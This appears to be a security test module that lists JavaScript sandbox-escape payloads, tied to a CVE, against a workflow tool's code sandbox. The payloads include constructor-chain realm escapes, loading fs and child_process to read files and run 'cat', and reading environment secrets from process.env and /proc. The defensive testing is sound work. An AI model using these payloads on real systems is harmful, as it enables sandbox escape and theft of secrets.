"""JavaScript code that looks for a way from its realm to the machine: files, processes, other realms' functions."""

from __future__ import annotations

from collections.abc import Mapping

from tests.security.sandbox.attack import Attack, Language, Naive, Sign

VM = "CVE-2026-27495"

_FROM_OBJECTS: Mapping[str, str] = {
    "this": "return this.constructor.constructor(@CODE@)()",
    "the function require": "return require.constructor(@CODE@)()",
    "a method of the console": "return console.log.constructor(@CODE@)()",
    "a method of $input": "return $input.all.constructor(@CODE@)()",
    "an item": "return items[0].json.constructor.constructor(@CODE@)()",
    "a method of an item's list": "return items.at.constructor(@CODE@)()",
    "Buffer": "return Buffer.from.constructor(@CODE@)()",
    "a Buffer": "return Buffer.from('x').constructor.constructor(@CODE@)()",
    "URL": "return new URL('http://a').constructor.constructor(@CODE@)()",
    "TextEncoder": "return new TextEncoder().encode('x').constructor.constructor(@CODE@)()",
    "what a timer returns": "const timer = setTimeout(() => {}, 1); return timer.constructor.constructor(@CODE@)()",
    "a timer's function": "return setTimeout.constructor(@CODE@)()",
    "a helper": "return helpers.httpRequest.constructor(@CODE@)()",
    "a helper's promise": """
        const p = helpers.httpRequest({}); p.catch?.(() => {}); return p.constructor.constructor(@CODE@)()
        """,
    "an error of require": "try { require('gone'); } catch (e) { return e.constructor.constructor(@CODE@)(); }",
    "an error's stack": "try { require(Symbol()); } catch (e) { return e.constructor.constructor(@CODE@)(); }",
    "a module": "return require('url').parse.constructor(@CODE@)()",
    "a module's class": "return require('luxon').DateTime.constructor(@CODE@)()",
    "jmespath": "return require('jmespath').search(items, 'constructor.constructor')(@CODE@)()",
    "static data": "return $getWorkflowStaticData('global').constructor.constructor(@CODE@)()",
    "the arguments' prototype": "return (function () { return $input.first.__proto__.constructor(@CODE@)(); })()",
    "an accessor of a foreign object": (
        """
        const g = Object.getOwnPropertyDescriptor(URL.prototype, 'href').get; return g.constructor(@CODE@)()
        """
    ),
    "a Proxy's trap that is given a foreign function": (
        """
        let found;
        const p = new Proxy(function () {}, {
          apply(f, self, args) { found ??= args.find((a) => typeof a === 'function'); },
        });
        items.map.call([$input.all], p);
        return $input.all.call.call($input.all.bind, p) && $input.all.constructor(@CODE@)()
        """
    ),
    "a frame's function": (
        """
        Error.prepareStackTrace = (e, frames) => frames;
        const frames = [new Error().stack].flat();
        try {
          require('gone');
        } catch (e) {
          frames.push(...[e.stack].flat());
        }
        for (const frame of frames) {
          const f = frame.getFunction?.() ?? frame.getThis?.();
          try {
            const v = f.constructor.constructor(@CODE@)();
            if (typeof v === 'string') return v;
          } catch {}
        }
        return console.log.constructor(@CODE@)()
        """
    ),
    "an overflow inside a foreign function": (
        """
        const found = [];
        const deep = () => {
          try {
            require('gone');
            deep();
          } catch (e) {
            found.push(e);
            throw e;
          }
        };
        try {
          deep();
        } catch {}
        for (const e of found.slice(0, 200)) {
          try {
            const v = e.constructor.constructor(@CODE@)();
            if (typeof v === 'string') return v;
          } catch {}
        }
        """
    ),
    "the species of a foreign list": (
        """
        let F;
        class C extends items.constructor {
          static get [Symbol.species]() { F = items.at.constructor; return Array; }
        }
        new C(1).map((x) => x);
        return F(@CODE@)()
        """
    ),
    "the prototype of a foreign list": "return Object.getPrototypeOf(items).map.constructor(@CODE@)()",
    "an async iterator over foreign values": ("for await (const f of [$input.all]) return f.constructor(@CODE@)()"),
    "Reflect.ownKeys of the global object": (
        """
        for (const key of Reflect.ownKeys(globalThis)) {
          try {
            const f = globalThis[key];
            const v = (typeof f === 'function' ? f : f.at).constructor(@CODE@)();
            if (typeof v === 'string') return v;
          } catch {}
        }
        """
    ),
}

_MODULES: Mapping[str, str] = {
    "require of fs": "return require('fs').readFileSync('@FILE@', 'utf8')",
    "require of node:fs": "return require('node:fs').readFileSync('@FILE@', 'utf8')",
    "require of a name that changes": (
        """
        let n = 0;
        const name = { toString: () => (n++ ? 'fs' : 'url'), replace: () => 'fs', valueOf: () => 'fs' };
        try {
          return require(name).readFileSync('@FILE@', 'utf8');
        } catch {
          `${name}`;
          return require(`${name}`).readFileSync('@FILE@', 'utf8');
        }
        """
    ),
    "import of fs": "return (await import('fs')).readFileSync('@FILE@', 'utf8')",
    "import of node:fs/promises": "return (await import('node:fs/promises')).readFile('@FILE@', 'utf8')",
    "import of a data address": (
        """
        const fs = await import('data:text/javascript,import fs from "fs";export default fs');
        return fs.default.readFileSync('@FILE@', 'utf8')
        """
    ),
    "module's loader": "return module.constructor._load('fs').readFileSync('@FILE@', 'utf8')",
    "module's createRequire": "return require('module').createRequire('/')('fs').readFileSync('@FILE@', 'utf8')",
    "require's main module": "return require.main.require('fs').readFileSync('@FILE@', 'utf8')",
    "process": "return process.getBuiltinModule('fs').readFileSync('@FILE@', 'utf8')",
    "process through globalThis": (
        "return globalThis['pro' + 'cess'].getBuiltinModule('fs').readFileSync('@FILE@', 'utf8')"
    ),
    "process.binding": "return process.binding('fs') && process.getBuiltinModule('fs').readFileSync('@FILE@', 'utf8')",
    "the environment": "return process.env.HEADRACE_BAIT_SECRET",
    "the environment of a process": "return require('fs').readFileSync('/proc/@PID@/environ', 'latin1')",
    "a shell's output": "return require('child_process').execSync('cat @FILE@').toString()",
    "another isolate": (
        """
        const { Worker } = require('worker_threads');
        const text = "require('worker_threads').parentPort.postMessage(require('fs').readFileSync('@FILE@', 'utf8'))";
        return new Promise((ok) => new Worker(text, { eval: true }).on('message', ok))
        """
    ),
    "another realm": """
        return require('vm').runInThisContext("process").getBuiltinModule('fs').readFileSync('@FILE@', 'utf8')
        """,
    "wasi": (
        """
        const { WASI } = require('wasi');
        new WASI({ version: 'preview1', preopens: { '/': '/' } });
        return require('fs').readFileSync('@FILE@', 'utf8')
        """
    ),
    "a debugger of its own": (
        """
        const { Session } = require('inspector');
        const s = new Session();
        s.connect();
        const expression = "process.getBuiltinModule('fs').readFileSync('@FILE@', 'utf8')";
        return new Promise((ok) => s.post('Runtime.evaluate', { expression }, (e, r) => ok(r.result.value)))
        """
    ),
    "fetch of a file's address": "return require('fs').readFileSync(new URL('file://@FILE@'), 'utf8')",
    "a heap snapshot's neighbour": "return require('fs').readFileSync('/proc/self/environ', 'latin1')",
    "the data folder": "return require('fs').readFileSync('@DATA@/key', 'utf8')",
}

_SHELL: Mapping[str, str] = {
    "read of V8's shell": "return read('@FILE@')",
    "load of V8's shell": "return load('@FILE@')",
    "every function in reach, called with a path": """
        const seen = new Set();
        const found = [];
        const skipped = /^(Promise|Array|String|repeat|fill|padStart|padEnd|exit|abort|kill|test|setTimeout)$/;
        const visit = (value, depth) => {
          if (!value || !['object', 'function'].includes(typeof value) || seen.has(value) || seen.size > 3000) return;
          seen.add(value);
          if (typeof value === 'function' && !skipped.test(value.name)) {
            try { const told = value('@FILE@'); if (typeof told === 'string') found.push(told); } catch {}
          }
          if (!depth) return;
          for (const key of Reflect.ownKeys(value)) { try { visit(value[key], depth - 1); } catch {} }
          try { visit(Object.getPrototypeOf(value), depth - 1); } catch {}
        };
        const all = () => Reflect.ownKeys(globalThis).map((key) => { try { return globalThis[key]; } catch {} });
        const names = typeof read === 'function' ? [read] : all();
        for (const root of [...names, helpers, $input, $now, $execution, DateTime]) visit(root, 3);
        return found.join(' ').slice(0, 5000);
        """,
}

_NATIVE: Mapping[str, str] = {
    "WebAssembly": (
        """
        const bytes = new Uint8Array([
          0, 97, 115, 109, 1, 0, 0, 0, 1, 7, 1, 96, 2, 127, 127, 1, 127, 3, 2, 1, 0, 7, 7, 1, 3, 109, 117, 108, 0, 0,
          10, 9, 1, 7, 0, 32, 0, 32, 1, 108, 11,
        ]);
        return new WebAssembly.Instance(new WebAssembly.Module(bytes)).exports.mul(@LEFT@, @RIGHT@)
        """
    ),
    "WebAssembly by a getter of the global object": (
        """
        const w = Object.getOwnPropertyDescriptor(globalThis, 'WebAssembly');
        return new (w.value ?? w.get()).Memory({ initial: 1 }).buffer.byteLength === 65536 && @LEFT@ * @RIGHT@
        """
    ),
    "shared memory": "return new SharedArrayBuffer(8).byteLength === 8 && @LEFT@ * @RIGHT@",
    "shared memory from WebAssembly": (
        """
        return new WebAssembly.Memory({ initial: 1, maximum: 1, shared: true })
          .buffer.constructor.name === 'SharedArrayBuffer' && @LEFT@ * @RIGHT@
        """
    ),
    "shared memory that timers use": (
        """
        const found = [];
        const spy = (owner, name) => {
          const old = owner[name];
          owner[name] = function (...args) {
            found.push(this, ...args);
            return old.apply(this, args);
          };
        };
        spy(Promise.prototype, 'then');
        spy(Map.prototype, 'set');
        spy(Map.prototype, 'has');
        const then = typeof SharedArrayBuffer === 'function' ? [new SharedArrayBuffer(4)] : [];
        await new Promise((ok) => setTimeout(ok, 1));
        const name = (v) => Object.prototype.toString.call(v?.buffer ?? v);
        return [...found, ...then].some((v) => name(v) === '[object SharedArrayBuffer]') && @LEFT@ * @RIGHT@
        """
    ),
    "waiting that blocks the thread": (
        """
        return Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 1) === 'timed-out' && @LEFT@ * @RIGHT@
        """
    ),
    "eval": "return (0, eval)('@LEFT@ * @RIGHT@')",
    "eval by another name": "const e = globalThis['ev' + 'al']; return e('@LEFT@ * @RIGHT@')",
    "a timer that is given a text": """
        globalThis.out = 0;
        try {
          setTimeout('out = @LEFT@ * @RIGHT@', 1);
          await new Promise((ok) => setTimeout(ok, 20));
        } catch {}
        return out || new Function('return @LEFT@ * @RIGHT@')()
        """,
    "the constructor in a fresh class": "return (class {}).constructor('return @LEFT@ * @RIGHT@')()",
    "the constructor put back": (
        """
        try {
          Object.defineProperty(Object.getPrototypeOf(() => {}), 'constructor', { configurable: true });
        } catch {}
        const p = Object.getPrototypeOf(() => {});
        return Reflect.get(p, 'constructor', () => {})('return @LEFT@ * @RIGHT@')()
        """
    ),
    "the runtime's compiler, handed over by String.prototype": (
        """
        const args = [];
        for (const name of ['trim', 'replace', 'matchAll', 'indexOf', 'slice']) {
          const old = String.prototype[name];
          String.prototype[name] = function (...a) { args.push(this, ...a); return old.apply(this, a); };
        }
        try {
          $evaluateExpression('{' + '{ 1 }' + '}');
        } catch {}
        const f = args.find((a) => typeof a === 'function' && a.name === 'compile');
        return (f ?? Function)('return @LEFT@ * @RIGHT@')()
        """
    ),
    "a ShadowRealm": """
        const other = typeof ShadowRealm === 'function';
        const evaluate = other ? (text) => new ShadowRealm().evaluate(text) : Function('t', 'return eval(t)');
        return evaluate('@LEFT@ * @RIGHT@')
        """,
}

ATTACKS = (
    *(
        Attack(f"a constructor through {name}", Language.JAVASCRIPT, source, Sign.SECRET, "realm escape", VM)
        for name, source in _FROM_OBJECTS.items()
    ),
    *(
        Attack(name, Language.JAVASCRIPT, source, Sign.SECRET, "modules", VM, Naive.FUNCTION)
        for name, source in _MODULES.items()
    ),
    *(
        Attack(name, Language.JAVASCRIPT, source, Sign.SECRET, "the embedder's functions", "", Naive.SHELL)
        for name, source in _SHELL.items()
    ),
    *(
        Attack(name, Language.JAVASCRIPT, source, Sign.PROOF, "native code and text as code", "", Naive.FUNCTION)
        for name, source in _NATIVE.items()
    ),
)
